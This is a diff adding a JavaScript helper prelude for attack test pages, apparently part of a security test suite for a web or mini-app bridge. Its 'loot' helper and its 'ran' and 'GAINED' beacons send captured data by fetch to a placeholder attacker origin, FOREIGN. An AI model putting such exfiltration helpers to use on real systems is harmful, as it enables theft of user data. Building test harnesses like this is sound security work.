@@ -1,0 +1,34 @@
+// What every page of an attack has: PROGRAM, FOREIGN and STRANGER are origins,
+// OVER the address to go to when the attack is over, '' where there is none.
+const {program, foreign, stranger, ran, gained, over, wait, loot, call, nextTo} = (() => {
+  const log = console.log.bind(console);
+  const stringify = JSON.stringify;
+  const later = setTimeout.bind(window);
+  const go = location.replace.bind(location);
+  const fetch_ = fetch.bind(window);
+  const Promise_ = Promise;
+  const isTop = top === window;
+  const say = (word) => (...parts) => {
+    let text = word;
+    for (let i = 0; i < parts.length; i++) text += ' ' + (typeof parts[i] === 'string' ? parts[i] : stringify(parts[i]));
+    if (isTop) log(text);
+    fetch_(FOREIGN + '/' + word + '?' + encodeURIComponent(text), {mode: 'no-cors', keepalive: true}).catch(() => {});
+  };
+  return {
+    program: PROGRAM, foreign: FOREIGN, stranger: STRANGER,
+    // ran proves that the attack was carried out, gained that it got something.
+    ran: say('ran'), gained: say('GAINED'),
+    // over ends the attack.
+    over: () => {
+      if (!isTop) return;
+      log('over');
+      if (OVER !== '') later(() => go(OVER), 0);
+    },
+    wait: (ms) => new Promise_((done) => later(done, ms)),
+    // loot shows a server of the attacker's what it got.
+    loot: (what) => fetch_(FOREIGN + '/loot?' + encodeURIComponent(what), {mode: 'no-cors', keepalive: true}).catch(() => {}),
+    // call gives a call's outcome, whichever it is.
+    call: (name, options) => new Promise_((done) => window.my.call(name, {...options, complete: done})),
+    nextTo: (name) => new URL(name, location.href).href,
+  };
+})();
